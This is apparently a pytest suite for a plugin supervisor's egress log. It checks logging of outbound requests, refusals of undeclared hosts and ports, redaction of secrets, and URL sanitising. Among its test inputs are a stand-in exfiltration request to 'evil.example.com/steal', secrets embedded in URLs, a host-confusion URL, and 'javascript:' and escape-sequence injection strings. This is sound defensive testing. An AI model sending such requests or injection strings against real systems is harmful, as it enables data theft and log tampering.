"""The egress log: every request and every refusal, without secrets."""

import pytest

from supervisor.calls.host_calls import PERMISSIONS
from supervisor.calls.ledger import MAX_PATH, shown_target
from supervisor.egress import EgressPolicy
from supervisor.limits import Limits
from supervisor.secrets.redaction import MARK, Redactor
from supervisor.states import EgressOutcome
from supervisor.views import EgressFilter

SECRET = "xoxb-very-secret-17"
PROBE = "org.example.guest.probe"


async def entries(desk, **wanted):
    found, total = await desk.supervisor.egress_log.page(EgressFilter(**wanted), limit=200)
    assert total == len(found)
    return found[::-1]


async def test_every_request_and_every_refusal_is_in_the_egress_log(open_desk, stand_in):
    desk = await open_desk(egress=stand_in.policy())
    plugin = await desk.probe(
        {"do": "http", "url": f"{stand_in.url}/hook?channel=7", "method": "POST", "body": "abc"},
        {"do": "http", "url": "https://evil.example.com/steal?x=1"},
        {"do": "http", "url": f"http://localhost:{stand_in.port + 1}/"},
        {"do": "raw", "call": "http", "payload": "[]"},
    )
    await desk.ticket()
    delivery = await desk.delivery(plugin.id)
    sent, undeclared, port, unreadable = await entries(desk)
    assert sent.outcome is EgressOutcome.ANSWERED
    assert (sent.host, sent.method, sent.path) == ("localhost", "POST", "/hook")
    assert (sent.status, sent.address) == (200, "127.0.0.1")
    assert sent.sent_bytes > 3
    assert sent.received_bytes > 2
    assert sent.duration_ms > 0
    assert sent.event_id == delivery.event_id
    assert sent.detail is None
    assert {e.outcome for e in (undeclared, port, unreadable)} == {EgressOutcome.REFUSED}
    assert (undeclared.host, undeclared.path, undeclared.status) == (
        "evil.example.com",
        "/steal",
        403,
    )
    assert "not declared" in undeclared.detail
    assert (port.host, port.status, port.address) == ("localhost", 0, None)
    assert "not allowed" in port.detail
    assert (unreadable.host, unreadable.method, unreadable.path) == ("", "", "")
    assert len(stand_in.requests) == 1


async def test_entries_are_found_by_plugin_host_outcome_and_delivery(open_desk, stand_in):
    desk = await open_desk(egress=stand_in.policy())
    plugin = await desk.probe(
        {"do": "http", "url": f"{stand_in.url}/"},
        {"do": "http", "url": "https://evil.example.com/"},
    )
    await desk.ticket()
    delivery = await desk.delivery(plugin.id)
    assert len(await entries(desk, plugin_id=plugin.id)) == 2
    assert await entries(desk, plugin_id="org.example.other") == []
    assert [e.host for e in await entries(desk, host="LOCALHOST")] == ["localhost"]
    refused = await entries(desk, outcome=EgressOutcome.REFUSED)
    assert [e.host for e in refused] == ["evil.example.com"]
    assert len(await entries(desk, event_id=delivery.event_id)) == 2
    newest, total = await desk.supervisor.egress_log.page(EgressFilter(), limit=1, offset=1)
    assert (newest[0].host, total) == ("localhost", 2)
    piece = await desk.supervisor.egress_log.before(EgressFilter(), limit=1)
    rest = await desk.supervisor.egress_log.before(EgressFilter(), before=piece[-1].id, limit=9)
    assert [e.host for e in (*piece, *rest)] == ["evil.example.com", "localhost"]


async def test_a_secret_is_not_in_the_egress_log_wherever_the_plugin_puts_it(open_desk, stand_in):
    desk = await open_desk(egress=stand_in.policy())
    plugin = await desk.probe(
        {"do": "http", "url": f"{stand_in.url}/services/{SECRET}?token={SECRET}"},
        {"do": "http", "url": f"https://{SECRET}.example.com/{SECRET}"},
        {"do": "http", "url": f"https://{SECRET}@localhost/"},
        {"do": "http", "url": f"{stand_in.url}/", "method": SECRET},
        config={"token": SECRET},
    )
    await desk.ticket()
    await desk.delivery(plugin.id)
    found = await entries(desk)
    assert SECRET not in repr(found)
    assert len(found) == 4
    assert found[0].path == f"/services/{MARK}"
    assert SECRET in stand_in.requests[0].path


async def test_a_request_that_is_cut_off_with_its_event_is_in_the_egress_log(open_desk, stand_in):
    stand_in.hold()
    desk = await open_desk(egress=stand_in.policy(), limits=Limits(deadline_s=2.0))
    plugin = await desk.probe({"do": "http", "url": f"{stand_in.url}/slow"})
    await desk.ticket()
    await desk.delivery(plugin.id)
    (entry,) = await entries(desk)
    assert entry.outcome is EgressOutcome.FAILED
    assert (entry.status, entry.address, entry.path) == (0, "127.0.0.1", "/slow")
    assert entry.sent_bytes > 0
    assert "stopped with the event" in entry.detail


async def test_a_network_that_fails_a_request_is_no_refusal(open_desk, stand_in):
    # Nobody listens on port 1 of loopback, which needs a privilege.
    policy = EgressPolicy(ports=frozenset({1}), private=stand_in.policy().private)
    desk = await open_desk(egress=policy)
    plugin = await desk.probe({"do": "http", "url": "http://localhost:1/"})
    await desk.ticket()
    await desk.delivery(plugin.id)
    (entry,) = await entries(desk)
    assert entry.outcome is EgressOutcome.FAILED
    assert "connection" in entry.detail


async def test_a_permission_that_was_taken_away_is_a_refusal_with_its_target(
    open_desk, stand_in, monkeypatch
):
    monkeypatch.setattr("supervisor.calls.host_calls.PERMISSIONS", PERMISSIONS - {"http"})
    desk = await open_desk(egress=stand_in.policy())
    plugin = await desk.probe({"do": "http", "url": f"{stand_in.url}/a"})
    await desk.ticket()
    await desk.delivery(plugin.id)
    (entry,) = await entries(desk)
    assert entry.outcome is EgressOutcome.REFUSED
    assert (entry.host, entry.path, entry.method) == ("localhost", "/a", "GET")
    assert "permission" in entry.detail


async def test_the_egress_log_outlives_the_plugin_and_the_server(open_desk, stand_in):
    desk = await open_desk(egress=stand_in.policy())
    plugin = await desk.probe({"do": "http", "url": f"{stand_in.url}/"})
    await desk.ticket()
    await desk.delivery(plugin.id)
    await desk.supervisor.controls.uninstall(plugin.id, actor="test")
    await desk.close()
    again = await open_desk()
    assert [e.plugin_id for e in await entries(again)] == [plugin.id]


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://api.example.com/a/b?c=d#e", ("api.example.com", "/a/b")),
        ("HTTPS://API.Example.com", ("api.example.com", "/")),
        ("http://localhost:8080/x", ("localhost", "/x")),
        ("https://user:pass@api.example.com/x", ("", "/x")),
        ("https://api.example.com\\@evil.example.com/x", ("", "/x")),
        ("javascript:alert(1)", ("", "")),
        ("//api.example.com/x", ("", "")),
        ("https://[::1]/x", ("", "/x")),
        ("https://api.example.com/\x1b[31m\n=cmd", ("api.example.com", r"/\x1b[31m\n=cmd")),
        ("", ("", "")),
    ],
)
def test_of_a_url_host_and_path_alone_are_shown(url, shown):
    assert shown_target(url, Redactor()) == shown


def test_a_secret_across_the_border_of_path_and_query_is_not_shown():
    assert shown_target("https://a.example/x?y=z", Redactor(["x?y=z"])) == ("a.example", f"/{MARK}")


def test_a_long_path_is_cut():
    _, path = shown_target("https://a.example/" + "x" * 9_000, Redactor())
    assert len(path) == MAX_PATH + 1
